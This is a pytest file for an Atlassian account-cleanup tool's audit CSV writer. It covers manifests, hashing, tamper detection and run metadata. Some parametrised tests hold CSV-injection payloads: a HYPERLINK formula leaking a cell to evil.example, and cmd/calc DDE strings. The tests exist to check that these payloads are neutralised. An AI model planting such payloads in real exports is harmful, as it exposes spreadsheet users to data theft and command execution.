from __future__ import annotations

import csv
import hashlib
import json

import pytest

from atlassian_cleanup.outcomes import StageOutcome
from atlassian_cleanup.reports.audit import neutralise_cell, verify_audit, write_audit
from tests.unit.readme_contract import audit_columns


def _row(account_id: str, **extra: object) -> dict[str, object]:
    return {"account_id": account_id, "proposed_action": "none", **extra}


def test_writes_one_row_per_user_with_fixed_columns_and_manifest(tmp_path):
    rows = [
        _row("a1", name="Ada", days_inactive=12),
        _row("b2", name="Bob", inactive_products=["jira", "jsm"]),
    ]
    manifest = write_audit(
        rows, tmp_path, run_id="scheduled__2026-11-26T00:00:00+00:00", as_of="2026-11-26", mode="dry_run"
    )

    with open(manifest.csv_path, encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        assert tuple(reader.fieldnames or ()) == audit_columns()
        written = list(reader)
    assert [r["account_id"] for r in written] == ["a1", "b2"]
    assert written[0]["days_inactive"] == "12"
    assert written[1]["inactive_products"] == "jira;jsm"
    assert {r["mode"] for r in written} == {"dry_run"}
    assert {r["as_of"] for r in written} == {"2026-11-26"}

    assert manifest.rows == 2
    with open(manifest.csv_path, "rb") as handle:
        assert manifest.sha256 == hashlib.sha256(handle.read()).hexdigest()
    on_disk = json.loads((tmp_path / (manifest.csv_file.removesuffix(".csv") + ".manifest.json")).read_text())
    assert on_disk["sha256"] == manifest.sha256
    assert on_disk["rows"] == 2
    assert ":" not in manifest.csv_file  # run ids carry colons; file names must not
    assert not list(tmp_path.glob("*.tmp"))


@pytest.mark.parametrize("dangerous", ['=HYPERLINK("http://x")', "+1+1", "-2+3", "@SUM(A1)", "\tx"])
def test_formula_cells_are_neutralised(dangerous):
    assert neutralise_cell(dangerous) == "'" + dangerous


def test_numbers_and_plain_text_are_left_alone():
    assert neutralise_cell(-5) == "-5"
    assert neutralise_cell("Zoë O'Brien <script>") == "Zoë O'Brien <script>"
    assert neutralise_cell(None) == ""
    assert neutralise_cell({"jira": "2026-01-01"}) == '{"jira":"2026-01-01"}'


def test_non_ascii_round_trips_as_utf8(tmp_path):
    manifest = write_audit(
        [_row("x", name="Zoë Ünal")], tmp_path, run_id="r", as_of="2026-11-26", mode="dry_run"
    )
    with open(manifest.csv_path, encoding="utf-8", newline="") as handle:
        assert next(csv.DictReader(handle))["name"] == "Zoë Ünal"


def test_verify_detects_tampering(tmp_path):
    manifest = write_audit([_row("x", name="Eve")], tmp_path, run_id="r", as_of="2026-11-26", mode="dry_run")
    assert verify_audit(manifest.csv_path).rows == 1
    with open(manifest.csv_path, "a", encoding="utf-8") as handle:
        handle.write("y,extra\r\n")
    with pytest.raises(ValueError, match="SHA-256"):
        verify_audit(manifest.csv_path)


def test_failed_write_leaves_no_partial_file(tmp_path):
    def broken_rows():
        yield _row("ok")
        raise RuntimeError("planner crashed mid-way")

    with pytest.raises(RuntimeError):
        write_audit(broken_rows(), tmp_path, run_id="r", as_of="2026-11-26", mode="dry_run")
    assert list(tmp_path.iterdir()) == []


def test_manifest_records_which_policy_produced_the_file(tmp_path):
    from atlassian_cleanup.reports.audit import policy_fingerprint

    policy = {"dry_run": True, "inactivity": {"default_days": 90}}
    manifest = write_audit(
        [_row("x")], tmp_path, run_id="r", as_of="2026-11-26", mode="dry_run", policy=policy
    )
    assert manifest.policy_sha256 == policy_fingerprint({"inactivity": {"default_days": 90}, "dry_run": True})
    assert manifest.policy_sha256 != policy_fingerprint({**policy, "dry_run": False})
    on_disk = json.loads((tmp_path / (manifest.csv_file.removesuffix(".csv") + ".manifest.json")).read_text())
    assert on_disk["policy_sha256"] == manifest.policy_sha256
    assert verify_audit(manifest.csv_path).policy_sha256 == manifest.policy_sha256


def test_audit_rows_join_results_api_status_and_timestamps(tmp_path):
    from atlassian_cleanup.reports.audit import audit_rows

    plan = [
        _row("done1", proposed_action="suspend"),
        _row("fail1", proposed_action="suspend"),
        _row("dry1", proposed_action="warn"),
        _row("gate1", proposed_action="delete"),
        _row("none1"),
    ]
    outcomes = {
        "done1": StageOutcome("done", "suspended"),
        "fail1": StageOutcome("failed", "HTTP 500 from Atlassian"),
        "dry1": StageOutcome("planned", "would email dry1"),
    }
    journal = {
        "done1": {"api_status": 204, "intent_at": "2026-11-26T00:00:01Z", "result_at": "2026-11-26T00:00:02Z"}
    }
    rows = {row["account_id"]: row for row in audit_rows(plan, outcomes, journal)}
    assert {k: v["result"] for k, v in rows.items()} == {
        "done1": "done",
        "fail1": "failed",
        "dry1": "planned",
        "gate1": "not_run",
        "none1": "no_action",
    }
    assert rows["done1"]["api_status"] == 204
    assert rows["done1"]["result_at"] == "2026-11-26T00:00:02Z"
    assert rows["done1"]["outcome"] == "done: suspended"
    assert rows["dry1"]["outcome"] == "dry run: would email dry1"
    assert rows["gate1"]["outcome"] == "no action"
    assert rows["gate1"]["api_status"] is None

    manifest = write_audit(
        rows.values(),
        tmp_path,
        run_id="r1",
        as_of="2026-11-26",
        mode="live",
        logical_date="2026-11-25T00:00:00Z",
    )
    with open(manifest.csv_path, encoding="utf-8", newline="") as handle:
        written = {r["account_id"]: r for r in csv.DictReader(handle)}
    assert written["done1"]["api_status"] == "204"
    assert written["done1"]["logical_date"] == "2026-11-25T00:00:00Z"
    assert written["fail1"]["result"] == "failed"
    assert manifest.logical_date == "2026-11-25T00:00:00Z"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_payloads_in_names_come_out_inert_in_the_file(tmp_path, name):
    manifest = write_audit(
        [_row("x1", name=name, email=name)], tmp_path, run_id="r", as_of="2026-11-26", mode="live"
    )
    with open(manifest.csv_path, encoding="utf-8", newline="") as handle:
        (written,) = list(csv.DictReader(handle))
    # A leading quote makes every spreadsheet show the text instead of evaluating it; the payload
    # itself is kept, so the auditor still sees exactly what the account was called.
    assert written["name"] == "'" + name
    assert written["email"] == "'" + name
    assert not written["name"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_triggered_by_names_the_user_or_the_scheduler():
    from atlassian_cleanup.reports.audit import triggered_by

    assert triggered_by("manual", "alice") == "alice"
    assert triggered_by("scheduled", None) == "scheduler"
    assert triggered_by(None, None) == "scheduler"
    assert triggered_by("asset_triggered", None) == "asset_triggered run (no user recorded)"


def test_manifest_records_the_policy_and_who_ran_it(tmp_path):
    from pathlib import Path

    from atlassian_cleanup.reports.audit import policy_fingerprint

    policy = {"dry_run": False, "safety": {"max_actions_per_run": 1}}
    run = {
        "triggered_by": "alice",
        "run_type": "manual",
        "overrides": {"mode": "live"},
        "policy_file": "/opt/policy.yaml",
        "approval": {"required": True, "decision": "rejected", "by": "bob", "at": "2026-11-26T09:00:00Z"},
    }
    manifest = write_audit(
        [_row("x")], tmp_path, run_id="r", as_of="2026-11-26", mode="live", policy=policy, run=run
    )
    on_disk = verify_audit(Path(manifest.csv_path))
    assert on_disk.policy == policy
    assert on_disk.policy_sha256 == policy_fingerprint(policy)
    assert (on_disk.triggered_by, on_disk.run_type, on_disk.policy_file) == (
        "alice",
        "manual",
        "/opt/policy.yaml",
    )
    assert on_disk.overrides == {"mode": "live"}
    assert on_disk.approval == run["approval"]
    # A manifest written before these fields existed still reads.
    bare = write_audit([_row("y")], tmp_path / "old", run_id="o", as_of="2026-11-26", mode="dry_run")
    assert (bare.triggered_by, bare.overrides, bare.approval, bare.policy) == (None, None, None, None)
